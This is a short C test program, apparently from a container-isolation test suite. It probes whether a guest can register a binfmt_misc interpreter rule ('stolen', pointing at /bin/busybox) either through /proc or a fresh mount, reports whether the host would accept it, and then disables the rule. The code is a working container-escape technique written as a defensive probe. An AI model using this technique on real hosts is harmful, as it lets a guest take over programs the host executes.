// SPDX-License-Identifier: GPL-2.0-only
// An interpreter for all, by binfmt_misc: what the host executes next is run by
// a program of the guest.
#include <sys/mount.h>

#include "attack.h"

#define MISC	"/tmp/misc"

static bool registers(const char *root)
{
	char name[64], rule[64];

	snprintf(name, sizeof(name), "%s/register", root);
	if (put(name, ":stolen:M::steal::/bin/busybox:"))
		return false;
	snprintf(rule, sizeof(rule), "%s/stolen", root);
	if (access(rule, F_OK))
		return false;
	NEED(!put(rule, "-1"));
	return true;
}

int main(void)
{
	int err;

	if (registers("/proc/sys/fs/binfmt_misc"))
		worked("the host has another interpreter");
	NEED(!mkdir(MISC, 0755) || errno == EEXIST);
	if (mount("misc", MISC, "binfmt_misc", 0, NULL)) {
		err = errno;
		rmdir(MISC);
		errno = err;
		refused("mount");
	}
	err = registers(MISC);
	umount(MISC);
	rmdir(MISC);
	if (err)
		worked("the host has another interpreter");
	refused("register");
}
